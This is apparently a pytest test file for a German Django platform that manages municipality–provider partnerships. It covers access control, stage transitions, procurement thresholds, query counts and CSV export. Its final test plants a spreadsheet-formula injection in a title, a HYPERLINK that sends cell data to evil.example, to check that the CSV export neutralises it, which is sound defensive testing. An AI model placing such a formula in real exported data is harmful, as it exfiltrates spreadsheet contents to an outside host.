from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from core.services import history_of
from matching.models import Need
from partnerships import services
from partnerships.models import Partnership, Stage, Threshold
from partnerships.tests.factories import MilestoneFactory, PartnershipFactory

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def urls_of(p, version=None):
    urls = [
        reverse("partnerships:detail", args=[p.pk]),
        reverse("partnerships:edit", args=[p.pk]),
        reverse("partnerships:transition", args=[p.pk, "beenden"]),
    ]
    if version:
        urls.append(reverse("partnerships:document_download", args=[p.pk, version.pk]))
    return urls


def test_visible_only_to_partners_and_office(
    partnership,
    client_for,
    client,
    provider_user,
    municipality_user,
    office_user,
    other_provider_user,
    other_municipality_user,
    outsider,
):
    version = services.upload_document(
        actor=provider_user,
        partnership=partnership,
        title="Vertrag",
        upload=SimpleUploadedFile("vertrag.pdf", PDF),
    )
    for user in (other_provider_user, other_municipality_user, outsider):
        c = client_for(user)
        for url in urls_of(partnership, version):
            assert c.get(url).status_code == 404, (user, url)
        assert partnership.title not in c.get(reverse("partnerships:list")).content.decode()
        c.logout()
    for url in urls_of(partnership, version):
        assert client.get(url).status_code == 302  # anonymous → login
    for user in (provider_user, municipality_user, office_user):
        c = client_for(user)
        assert c.get(urls_of(partnership)[0]).status_code == 200
        response = c.get(urls_of(partnership, version)[-1])
        assert response.status_code == 200
        assert b"".join(response.streaming_content) == PDF
        assert response["Content-Type"] == "application/pdf"
        assert partnership.title in c.get(reverse("partnerships:list")).content.decode()
        c.logout()


def test_document_of_other_partnership_not_reachable(
    partnership, provider_user, client_for, other_provider_user
):
    other = PartnershipFactory(provider=other_provider_user.memberships.get().organisation)
    version = services.upload_document(
        actor=other_provider_user,
        partnership=other,
        title="Geheim",
        upload=SimpleUploadedFile("g.pdf", PDF),
    )
    url = reverse("partnerships:document_download", args=[partnership.pk, version.pk])
    assert client_for(provider_user).get(url).status_code == 404


def test_create_from_need_carries_text_over(
    municipality_org, municipality_user, client_for, provider_org
):
    need = Need.objects.create(
        organisation=municipality_org,
        title="Freie Parkplätze finden",
        description="Zu viel Parksuchverkehr.",
    )
    c = client_for(municipality_user)
    page = c.get(reverse("partnerships:create") + f"?need={need.pk}")
    assert "Zu viel Parksuchverkehr." in page.content.decode()
    response = c.post(
        reverse("partnerships:create"),
        {
            "need": need.pk,
            "municipality": municipality_org.pk,
            "title": need.title,
            "problem": need.description,
            "provider": provider_org.pk,
        },
    )
    p = Partnership.objects.get()
    assert response.url == p.get_absolute_url()
    assert (p.need, p.problem, p.provider) == (need, "Zu viel Parksuchverkehr.", provider_org)


def test_create_from_scratch_and_invite(
    municipality_org, municipality_user, provider_org, provider_user, client_for
):
    c = client_for(municipality_user)
    response = c.post(
        reverse("partnerships:create"),
        {
            "municipality": municipality_org.pk,
            "title": "Umweltsensoren",
            "problem": "Luft",
            "goals": "",
            "provider": provider_org.pk,
        },
    )
    p = Partnership.objects.get()
    assert response.status_code == 302
    assert p.provider == provider_org and p.provider_accepted_at is None
    c.logout()
    c = client_for(provider_user)
    c.post(reverse("partnerships:accept", args=[p.pk]))
    p.refresh_from_db()
    assert p.provider_accepted_at is not None


def test_only_municipality_members_can_start(client_for, provider_user, office_user):
    for user in (provider_user, office_user):
        assert client_for(user).get(reverse("partnerships:create")).status_code == 403


def test_provider_cannot_change_stage_or_edit_via_post(partnership, provider_user, client_for):
    c = client_for(provider_user)
    response = c.post(
        reverse("partnerships:transition", args=[partnership.pk, "fe-phase"]), {"comment": "x"}
    )
    assert response.status_code == 403
    assert (
        c.post(
            reverse("partnerships:edit", args=[partnership.pk]), {"title": "Gekapert"}
        ).status_code
        == 403
    )
    assert (
        c.post(
            reverse("partnerships:budget_add", args=[partnership.pk]),
            {"budget-description": "X", "budget-amount": "1"},
        ).status_code
        == 403
    )
    partnership.refresh_from_db()
    assert partnership.stage == Stage.INITIATION
    assert partnership.title == "Parkleitsystem"


def test_transition_through_the_page_is_logged(partnership, municipality_user, client_for):
    c = client_for(municipality_user)
    url = reverse("partnerships:transition", args=[partnership.pk, "fe-phase"])
    assert c.get(url).status_code == 200
    c.post(url, {"comment": "Vertrag unterschrieben"})
    partnership.refresh_from_db()
    assert partnership.stage == Stage.RND
    page = c.get(partnership.get_absolute_url()).content.decode()
    assert "Vertrag unterschrieben" in page
    entry = history_of(partnership).first()
    assert (entry.actor, entry.from_state, entry.to_state) == (
        municipality_user,
        "initiation",
        "rnd",
    )


def test_illegal_transition_via_page_shows_error(partnership, municipality_user, client_for):
    c = client_for(municipality_user)
    response = c.post(
        reverse("partnerships:transition", args=[partnership.pk, "leistungsphase"]),
        {"evaluation_decision": "x", "procurement_route": "negotiated"},
    )
    assert response.status_code == 200
    assert "kern-alert--danger" in response.content.decode()
    partnership.refresh_from_db()
    assert partnership.stage == Stage.INITIATION


def test_detail_shows_procurement_check_and_disclaimer(partnership, municipality_user, client_for):
    partnership.procedure_start = timezone.localdate().replace(year=2026, month=3, day=1)
    partnership.bonus_percent = None
    partnership.bonus_amount = Decimal("2000.00")  # 8,000 + 2,000 = exactly 10,000
    partnership.save()
    page = client_for(municipality_user).get(partnership.get_absolute_url()).content.decode()
    assert "10.000,00\xa0€" in page
    assert "HVTG" in page
    assert "§ 119 Abs. 7 GWB" in page
    assert "Rechtsberatung" in page  # "not legal advice"
    assert "10.000 €" in page  # the edge_10000 warning text


def test_overdue_milestone_highlighted_with_text(partnership, municipality_user, client_for):
    Partnership.objects.filter(pk=partnership.pk).update(stage=Stage.RND)
    MilestoneFactory(
        partnership=partnership, title="Prototyp", due_on=timezone.localdate() - timedelta(days=3)
    )
    page = client_for(municipality_user).get(partnership.get_absolute_url()).content.decode()
    assert "sr-overdue" in page
    assert "überfällig" in page
    assert "<svg" in page


def make_partnerships(n, municipality_org, provider_org):
    for _ in range(n):
        p = PartnershipFactory(municipality=municipality_org, provider=provider_org)
        MilestoneFactory(partnership=p)


@pytest.mark.parametrize("rows", [2, 20])
def test_list_query_count_constant(
    rows,
    municipality_org,
    provider_org,
    municipality_user,
    client_for,
    django_assert_num_queries,
):
    make_partnerships(rows, municipality_org, provider_org)
    c = client_for(municipality_user)
    with django_assert_num_queries(8):  # 7 + the open invitations to the user's providers
        response = c.get(reverse("partnerships:list"))
    assert response.content.decode().count("<tr>") == rows + 1


@pytest.mark.parametrize("rows", [2, 20])
def test_detail_query_count_constant(
    rows, partnership, municipality_user, provider_user, client_for, django_assert_num_queries
):
    for i in range(rows):
        MilestoneFactory(partnership=partnership, instalment=0)
        services.upload_document(
            actor=provider_user,
            partnership=partnership,
            title=f"D{i}",
            upload=SimpleUploadedFile("d.pdf", PDF),
        )
    c = client_for(municipality_user)
    with django_assert_num_queries(15):
        assert c.get(partnership.get_absolute_url()).status_code == 200


@pytest.mark.parametrize("rows", [2, 20])
def test_office_overview_and_csv(
    rows, municipality_org, provider_org, office_user, client_for, django_assert_num_queries
):
    make_partnerships(rows, municipality_org, provider_org)
    p = Partnership.objects.first()
    MilestoneFactory(partnership=p, title="Verspätet", due_on=timezone.localdate() - timedelta(1))
    c = client_for(office_user)
    with django_assert_num_queries(7):
        page = c.get(reverse("partnerships:office_overview")).content.decode()
    assert "Verspätet" in page
    with django_assert_num_queries(6):
        response = c.get(reverse("partnerships:office_overview") + "?format=csv")
    lines = response.content.decode("utf-8-sig").strip().splitlines()
    assert len(lines) == rows + 1
    assert any(line.endswith(";1") for line in lines[1:])


def test_office_pages_forbidden_for_others(client_for, municipality_user, provider_user):
    for user in (municipality_user, provider_user):
        c = client_for(user)
        for name in (
            "partnerships:office_overview",
            "partnerships:thresholds",
            "partnerships:threshold_create",
        ):
            assert c.get(reverse(name)).status_code == 403
        c.logout()


def test_office_maintains_threshold_table(office_user, client_for):
    c = client_for(office_user)
    assert "216.000,00" in c.get(reverse("partnerships:thresholds")).content.decode()
    data = {
        "kind": "eu",
        "scope": "supplies_services",
        "route": "",
        "applies_to": "sub_central",
        "label": "EU 2028",
        "value": "230000",
        "valid_from": "2028-01-01",
        "valid_to": "2029-12-31",
        "source": "Delegierte VO (EU) 2027/xxx",
        "status": "in_force",
        "note": "",
    }
    assert c.post(reverse("partnerships:threshold_create"), data).status_code == 302
    row = Threshold.objects.get(label="EU 2028")
    assert history_of(row).first().action == "partnerships.threshold.created"
    bad = {**data, "label": "kaputt", "valid_from": "", "value": "-1"}
    response = c.post(reverse("partnerships:threshold_create"), bad)
    assert response.status_code == 200
    assert not Threshold.objects.filter(label="kaputt").exists()


def test_edit_form_shows_german_errors_and_changes_nothing(
    partnership, municipality_user, client_for
):
    c = client_for(municipality_user)
    url = reverse("partnerships:edit", args=[partnership.pk])
    data = {"title": "Neu", "problem": "P", "scope": "works", "bonus_amount": "abc"}
    response = c.post(url, data)
    assert response.status_code == 200
    assert "Zahl" in response.content.decode()  # "Bitte eine Zahl eingeben."
    partnership.refresh_from_db()
    assert partnership.title == "Parkleitsystem"
    both = {**data, "bonus_amount": "100", "bonus_percent": "5"}
    response = c.post(url, both)
    assert "entweder als Betrag oder als Prozentsatz" in response.content.decode()
    partnership.refresh_from_db()
    assert partnership.title == "Parkleitsystem"
    ok = {**data, "bonus_amount": "", "bonus_percent": "10"}
    assert c.post(url, ok).status_code == 302
    partnership.refresh_from_db()
    assert (partnership.title, partnership.scope) == ("Neu", "works")
    assert history_of(partnership).first().action == "partnerships.partnership.updated"


def test_cannot_start_from_another_towns_need(
    municipality_user, other_municipality_org, client_for
):
    need = Need.objects.create(
        organisation=other_municipality_org, title="Fremd", description="Geheim"
    )
    c = client_for(municipality_user)
    assert c.get(reverse("partnerships:create") + f"?need={need.pk}").status_code == 404
    assert c.get(reverse("partnerships:create") + "?need=abc").status_code == 404
    assert not Partnership.objects.exists()


def test_office_csv_opens_in_a_german_spreadsheet_and_runs_no_formulas(
    municipality_org, provider_org, office_user, client_for
):
    import csv
    import io

    title = '=HYPERLINK("https://evil.example/?x="&B2;"Übersicht")'
    p = PartnershipFactory(municipality=municipality_org, provider=provider_org, title=title)
    MilestoneFactory(partnership=p, instalment=Decimal("1234.50"))
    response = client_for(office_user).get(reverse("partnerships:office_overview") + "?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="partnerschaften.csv"'
    assert response.content.startswith(b"\xef\xbb\xbfID;Titel;")
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    assert row["Titel"] == "'" + title
    assert row["Abschläge (netto, €)"] == "1234,50"
    assert row["Begonnen"] == timezone.localtime(p.created_at).strftime("%d.%m.%Y")
